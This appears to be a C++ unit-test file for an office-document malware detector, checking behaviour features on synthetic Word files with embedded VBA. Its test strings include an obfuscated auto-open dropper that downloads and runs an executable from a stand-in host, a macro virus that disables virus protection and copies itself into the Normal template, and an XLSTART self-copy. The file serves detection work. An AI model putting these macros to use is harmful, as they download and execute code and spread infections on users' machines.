@@ -1,0 +1,104 @@
+// The document "behaviour" features (schema v2) and the deterministic office rules, on Word files with VBA built
+// here (tests/support/cfb_builder): what the static evaluator recovers from an obfuscated dropper (URL to an
+// executable, the command line), the replication and stealth identifiers of a 1990s macro virus, and that an
+// ordinary macro that saves a copy and formats cells sets none of them.
+#include <gtest/gtest.h>
+
+#include <string>
+#include <vector>
+
+#include "features/office_features.hpp"
+#include "support/cfb_builder.hpp"
+
+namespace {
+
+using namespace mamori;
+using namespace mamori::test;
+
+float feature(const features::OfficeSample& s, std::string_view name) {
+  const auto& f = features::office_schema().features;
+  for (std::size_t i = 0; i < f.size(); ++i)
+    if (f[i].name == name) return s.x[i];
+  ADD_FAILURE() << "no feature " << name;
+  return -1;
+}
+
+features::OfficeSample word_with(const std::string& name, const std::string& code) {
+  VbaSpec v;
+  v.modules = {{name, "Attribute VB_Name = \"" + name + "\"\r\n" + code, std::vector<std::uint8_t>(600, 0xA5), true}};
+  CfbSpec s;
+  s.streams = build_vba_streams(v);
+  std::vector<std::uint8_t> fib(5000, 0);
+  fib[0] = 0xEC;
+  fib[1] = 0xA5;
+  s.streams.push_back({"WordDocument", fib});
+  s.streams.push_back({"1Table", std::vector<std::uint8_t>(600, 0)});
+  const auto doc = build_cfb(s);
+  return features::featurize_office(ByteView(doc.data(), doc.size()));
+}
+
+TEST(OfficeBehaviour, EvaluatorSeesThroughConcatenation) {
+  // The URL and the command exist only after folding Chr() arithmetic, StrReverse and concatenation.
+  const auto s = word_with("Module1",
+                           "Sub AutoOpen()\r\n  Dim u As String, c As String\r\n"
+                           "  u = \"ht\" & Chr(115 + 1) & \"p://dl.\" & \"example.invalid/\" & StrReverse(\"exe.daol\")\r\n"
+                           "  c = \"cmd.e\" & \"xe /c start %TEMP%\\load.exe\"\r\n"
+                           "  CreateObject(\"WScript.Shell\").Run c, 0\r\nEnd Sub\r\n");
+  EXPECT_EQ(feature(s, "behaviour.evaluated_projects"), 1.0f);
+  EXPECT_GE(feature(s, "behaviour.ioc_urls"), 1.0f);
+  EXPECT_GE(feature(s, "behaviour.ioc_url_executables"), 1.0f);
+  EXPECT_GE(feature(s, "behaviour.ioc_commands"), 1.0f);
+  EXPECT_GE(feature(s, "behaviour.decoded_strings"), 1.0f);
+  EXPECT_EQ(feature(s, "behaviour.autoexec_download_execute"), 1.0f);
+  EXPECT_EQ(feature(s, "behaviour.replication"), 0.0f);
+  EXPECT_EQ(features::office_rule(s.x), "");  // droppers are the model's job, not a rule's
+}
+
+TEST(OfficeBehaviour, MacroVirusReplicationAndStealth) {
+  const auto s = word_with("Virus",
+                           "Sub AutoClose()\r\n  Options.VirusProtection = False\r\n"
+                           "  Options.SaveNormalPrompt = False\r\n"
+                           "  Application.OrganizerCopy Source:=ActiveDocument.FullName, "
+                           "Destination:=NormalTemplate.FullName, Name:=\"Virus\", Object:=wdOrganizerObjectProjectItems\r\n"
+                           "End Sub\r\n");
+  EXPECT_EQ(feature(s, "behaviour.stealth"), 2.0f);
+  EXPECT_EQ(feature(s, "behaviour.replication"), 2.0f);  // OrganizerCopy, NormalTemplate
+  EXPECT_EQ(feature(s, "behaviour.autoexec_replicates"), 1.0f);
+  EXPECT_EQ(feature(s, "behaviour.ioc_urls"), 0.0f);
+  EXPECT_EQ(features::office_rule(s.x), "macro-replication");
+}
+
+TEST(OfficeBehaviour, XlstartCopyIsReplication) {
+  const auto s = word_with("Module1",
+                           "Sub Auto_Open()\r\n  p = Application.StartupPath\r\n"
+                           "  ActiveWorkbook.SaveCopyAs p & \"\\XLSTART\\book.xls\"\r\nEnd Sub\r\n");
+  EXPECT_EQ(feature(s, "behaviour.replication"), 1.0f);
+  EXPECT_EQ(feature(s, "behaviour.startup_paths"), 1.0f);
+  EXPECT_EQ(features::office_rule(s.x), "macro-replication");
+}
+
+TEST(OfficeBehaviour, OrdinaryBusinessMacroSetsNothing) {
+  const auto s = word_with("Module1",
+                           "Sub Workbook_Open()\r\n  Application.ScreenUpdating = False\r\n"
+                           "  Range(\"A1:D20\").Font.Bold = True\r\n"
+                           "  ThisWorkbook.SaveCopyAs ThisWorkbook.Path & \"\\backup.xlsm\"\r\nEnd Sub\r\n");
+  for (const char* f : {"behaviour.ioc_urls", "behaviour.ioc_commands", "behaviour.powershell_layers",
+                        "behaviour.replication", "behaviour.stealth", "behaviour.startup_paths",
+                        "behaviour.autoexec_download", "behaviour.autoexec_execute", "behaviour.autoexec_replicates"})
+    EXPECT_EQ(feature(s, f), 0.0f) << f;
+  EXPECT_EQ(features::office_rule(s.x), "");
+}
+
+TEST(OfficeBehaviour, NoMacrosNoBehaviour) {
+  CfbSpec s;
+  std::vector<std::uint8_t> fib(5000, 0);
+  fib[0] = 0xEC;
+  fib[1] = 0xA5;
+  s.streams.push_back({"WordDocument", fib});
+  const auto doc = build_cfb(s);
+  const auto x = features::featurize_office(ByteView(doc.data(), doc.size()));
+  EXPECT_EQ(feature(x, "behaviour.evaluated_projects"), 0.0f);
+  EXPECT_EQ(features::office_rule(x.x), "");
+}
+
+}  // namespace
